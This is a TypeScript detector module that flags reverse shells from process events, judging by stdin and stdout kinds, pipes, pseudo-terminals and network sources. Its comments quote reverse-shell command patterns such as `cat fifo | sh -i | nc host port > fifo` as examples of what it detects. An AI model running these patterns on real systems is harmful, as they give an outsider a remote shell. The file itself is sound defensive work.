import type { Stream } from '../decode/process-events.ts';
import type { ProcessImage } from '../lineage/process-table.ts';
import type { ProcessNode } from '../spans/process-node.ts';
import type { Detector, Hit } from './detector.ts';
import { hostOf } from './host-of.ts';
import type { Pipes } from './pipes.ts';
import { isInteractive, isInterpreter, isOfJobsOwn, readsProgram } from './program.ts';
import type { Sources } from './sources.ts';

/** A shell or interpreter that takes its commands from the network: by a socket, by pipes that lead there and back, or by a terminal that such a process holds. */
export function reverseShell(pipes: Pipes, sources: Sources): Detector {
  return {
    executed: (node) => shellHit(node, sources) ?? ownHit(node, sources),
    connected(event, node, origin) {
      if (event.transport !== 'tcp') return null;
      const shell = pipes.writer(node.image.stdin);
      if (shell === null || !isFedByPipe(shell)) return null;
      return { ...hitOf(`${hostOf(event, origin)}:${event.port}`), severity: 'High', by: shell };
    },
  };
}

function shellHit(node: ProcessNode, sources: Sources): Hit | null {
  const { image } = node;
  if (!readsProgram(image)) return null;
  if (isOnSocket(image)) {
    const source = sources.above(image);
    return hitOf(source === null ? 'a host that connected to it' : `${source.host}:${source.port}`);
  }
  const held = sources.of(image.parent);
  return held !== null && isOnTerminalOf(image, image.parent) ? heldHit(node, `${held.host}:${held.port}`) : null;
}

/** Its input is a socket, or what it says goes into one while something else passes its input on (`cat <&3 | sh >&3`). */
function isOnSocket({ stdin, stdout }: ProcessImage): boolean {
  return stdin.kind === 'network' || (stdin.kind === 'pipe' && stdout.kind === 'network');
}

/** The terminal before which the parent sits is not the parent's own making. */
function isOnTerminalOf({ stdin, stdout }: ProcessImage, parent: ProcessImage | null): boolean {
  const isTerminal = isPseudoTerminal(stdin) && isPseudoTerminal(stdout) && stdin.file === stdout.file;
  return isTerminal && parent !== null && parent.stdin.file !== stdin.file;
}

/** Majors 136 to 143 (Linux, Documentation/admin-guide/devices.txt), above the kernel's own 20 bits of minor. */
function isPseudoTerminal({ kind, file }: Stream): boolean {
  const major = file >>> 20;
  return kind === 'device' && major >= 136 && major <= 143;
}

/** Coding agents keep terminals for their commands, and speak with their model. */
function heldHit({ parent }: ProcessNode, host: string): Hit {
  return { ...hitOf(host), severity: parent?.agent?.isAgent === true ? 'Low' : 'High' };
}

/** A copy of a shell by any name: a program out of the job's own hands that listens and speaks on one connection. What a server hands its callers to is no shell of theirs. */
function ownHit({ image }: ProcessNode, sources: Sources): Hit | null {
  const { stdin, stdout } = image;
  if (stdin.kind !== 'network' || stdout.kind !== 'network') return null;
  const source = isOfJobsOwn(image) && !isInterpreter(image) ? sources.above(image) : null;
  return source === null ? null : { ...hitOf(`${source.host}:${source.port}`), severity: 'High' };
}

/** `cat fifo | sh -i | nc host port > fifo` */
function isFedByPipe({ image }: ProcessNode): boolean {
  return image.stdin.kind === 'pipe' && isInteractive(image);
}

function hitOf(host: string): Hit {
  return { rule: 'reverse-shell', subject: { kind: 'host', name: host } };
}
